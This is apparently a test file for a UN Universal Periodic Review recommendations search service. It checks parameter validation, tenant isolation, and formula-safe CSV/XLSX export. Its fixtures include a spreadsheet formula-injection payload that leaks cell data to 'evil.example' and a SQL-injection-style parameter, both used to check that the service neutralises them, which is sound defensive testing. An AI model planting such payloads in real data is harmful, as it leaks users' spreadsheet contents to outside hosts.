/**
 * The search use cases around the adapter: URL parameter validation, the detail view's tenant
 * rule, CSV/XLSX export (formula-injection safe) and the `upr-advocate search` command body.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ZodError } from 'zod';
import { runSearch, searchAsText } from '../../src/cli/search-command.js';
import { AppError } from '../../src/core/errors.js';
import type { Actor } from '../../src/server/app/deps.js';
import { exportSearch, getRecommendation, searchRecommendations } from '../../src/server/app/search-recommendations.js';
import { insertOrganization } from '../../src/server/db/repos/members-repo.js';
import { createTestServer, ENGINES, type TestServer } from '../db-helpers.js';
import { insertRecommendations, recommendationId, type RecommendationSpec } from '../recommendation-factory.js';
import { NAMESPACES } from '../search-reference.js';

const ACTOR_A: Actor = { userId: 'user-a', orgId: 'org-a', role: 'viewer' };
const ACTOR_B: Actor = { userId: 'user-b', orgId: 'org-b', role: 'viewer' };

/** Texts a hostile file could carry into the export: each would run as a formula in a spreadsheet. */
const HOSTILE_SPEC: RecommendationSpec = {
  key: 'X01', cycle: 2, session: 19, sur: 'KEN', rs: ['UGA'], response: 'supported', ac: null, issues: ['Other'],
  text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details"), then "ratify" it', paragraph: '+1', document: '@SUM(A1:A9)',
};

async function rejects(promise: Promise<unknown>): Promise<unknown> {
  try {
    await promise;
  } catch (error) {
    return error;
  }
  throw new Error('expected a rejection');
}

describe.each(ENGINES)('search use cases (%s)', (engine) => {
  let server: TestServer;

  beforeAll(async () => {
    server = await createTestServer(engine);
    for (const [namespace, label, specs] of NAMESPACES) await insertRecommendations(server.deps.db, namespace, label, specs);
    await insertRecommendations(server.deps.db, 'org-a', 'a', [HOSTILE_SPEC]);
    await insertOrganization(server.deps.db, { id: 'org-a', name: 'Organisation A', now: '2026-11-27T09:00:00.000Z' });
  });
  afterAll(async () => server.dispose());

  it('parses repeated and comma-separated URL parameters alike', async () => {
    const repeated = await searchRecommendations(server.deps, ACTOR_A, { sur: ['DZA', 'CZE'], cycle: ['1'], sort: ['session-desc'] });
    const commas = await searchRecommendations(server.deps, ACTOR_A, { sur: 'dza,CZE', cycle: '1', sort: 'session-desc' });
    expect(commas).toEqual(repeated);
    expect(repeated.total).toBe(6); // DZA: L01, L08, L15, A01; CZE: L03, L18
    expect(repeated.pageSize).toBe(20);
  });

  it.each<[string, Record<string, unknown>]>([
    ['a 10 KB text', { q: 'a'.repeat(10_000) }],
    ['201 characters', { q: 'x'.repeat(201) }],
    ['pageSize over 100', { pageSize: '101' }],
    ['page 0', { page: '0' }],
    ['a malformed code', { sur: 'KE' }],
    ['an unknown group', { rsGroup: 'Europe' }],
    ['an unknown response', { response: 'maybe' }],
    ['a cycle that is not a number', { cycle: '1; drop table recommendation' }],
    ['an action category of 6', { actionCategory: '6' }],
    ['two texts', { q: ['a', 'b'] }],
  ])('refuses %s as a validation error (400)', async (_what, params) => {
    expect(await rejects(searchRecommendations(server.deps, ACTOR_A, params))).toBeInstanceOf(ZodError);
  });

  it('names close matches for an unknown State (400 unknown-state)', async () => {
    const error = await rejects(searchRecommendations(server.deps, ACTOR_A, { rs: 'FRX' }));
    expect(error).toBeInstanceOf(AppError);
    expect(error).toMatchObject({ code: 'unknown-state', details: { field: 'rs' } });
  });

  it("answers another organisation's recommendation exactly like a missing one", async () => {
    const own = await getRecommendation(server.deps, ACTOR_A, recommendationId('a', 'A01'));
    expect(own).toMatchObject({ surIso3: 'DZA', library: false, recommendingStates: ['ITA'], issues: ['Death penalty'] });
    const library = await getRecommendation(server.deps, ACTOR_B, recommendationId('lib', 'L18'));
    expect(library).toMatchObject({ library: true, recommendingStates: ['CAN', 'FRA', 'SVN'], source: 'upr-info' });
    const theirs = await rejects(getRecommendation(server.deps, ACTOR_B, recommendationId('a', 'A01')));
    const missing = await rejects(getRecommendation(server.deps, ACTOR_B, 'rec-a-NOPE'));
    expect(theirs).toBeInstanceOf(AppError);
    expect(theirs).toMatchObject({ code: 'not-found' });
    expect(JSON.stringify(theirs)).toBe(JSON.stringify(missing));
    expect((theirs as Error).message).toBe((missing as Error).message);
  });

  it('exports every match as CSV with formula-looking cells neutralised', async () => {
    const file = await exportSearch(server.deps, ACTOR_A, { q: 'ratify', sort: 'session-desc' }, 'csv');
    const csv = new TextDecoder().decode(file.bytes);
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('Cycle,Session,State under Review,Recommendation,Recommending States,Response,Action category,Issues,Paragraph,Document');
    expect(file).toMatchObject({ rows: 12, truncated: false, contentType: 'text/csv; charset=utf-8' });
    expect(lines).toHaveLength(1 + 12 + 1); // header, rows, the empty string after the last CRLF
    expect(lines[1]).toBe(`2,19,Kenya,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details""), then ""ratify"" it",Uganda,Supported,,Other,'+1,'@SUM(A1:A9)`);
    expect(csv).toContain('1,1,Czechia,Ratify the Rome Statute of the International Criminal Court.,Canada; France; Slovenia,Supported,5,International instruments; Justice,,');
    const cells = lines.slice(1, -1).flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports XLSX with a bold, frozen, filterable header and the texts as plain text', async () => {
    const file = await exportSearch(server.deps, ACTOR_A, { q: 'ratify', sort: 'session-desc' }, 'xlsx');
    expect(file.fileName).toMatch(/^upr-recommendations-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(file.bytes) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Recommendations')!;
    expect(sheet.rowCount).toBe(13);
    expect(sheet.getRow(1).getCell(3).value).toBe('State under Review');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(4).width).toBe(80);
    const hostile = sheet.getRow(2).getCell(4);
    expect(hostile.type).toBe(ExcelJS.ValueType.String);
    expect(hostile.value).toBe(HOSTILE_SPEC.text);
    expect(sheet.getRow(2).getCell(1).value).toBe(2);
  });

  it('exports only what the organisation can see', async () => {
    const file = await exportSearch(server.deps, ACTOR_B, { q: 'ratify' }, 'csv');
    const csv = new TextDecoder().decode(file.bytes);
    expect(file.rows).toBe(12); // the 11 of the library and B's own B03
    expect(csv).not.toContain('HYPERLINK');
    expect(csv).toContain('Economic, Social and Cultural Rights');
  });

  it('searches the library from the command line, or what one organisation sees with --org', async () => {
    const library = await runSearch(server.deps, 'torture', {});
    expect(library.total).toBe(2);
    expect(Object.keys(library)).toEqual(['total', 'items', 'facets']);
    const asA = await runSearch(server.deps, 'torture', { org: 'Organisation A', response: 'noted' });
    expect(asA.items.map((i) => i.id).sort()).toEqual([recommendationId('a', 'A03'), recommendationId('lib', 'L09')]);
    const filtered = await runSearch(server.deps, undefined, { sur: 'dza', issue: ['Torture and other CID treatment'], cycle: '1', limit: '5' });
    expect(filtered.items.map((i) => i.id)).toEqual([recommendationId('lib', 'L08')]);
    const text = searchAsText(library);
    expect(text).toMatch(/^2 recommendations\n/);
    expect(text).toContain('Ratify the Optional Protocol to the Convention against Torture');
    expect(await rejects(runSearch(server.deps, 'x', { org: 'Nobody' }))).toMatchObject({ code: 'not-found' });
    expect(await rejects(runSearch(server.deps, 'x', { limit: '500' }))).toBeInstanceOf(Error);
    expect(await rejects(runSearch(server.deps, 'x', { sur: 'XYZ' }))).toMatchObject({ code: 'unknown-state' });
  });
});
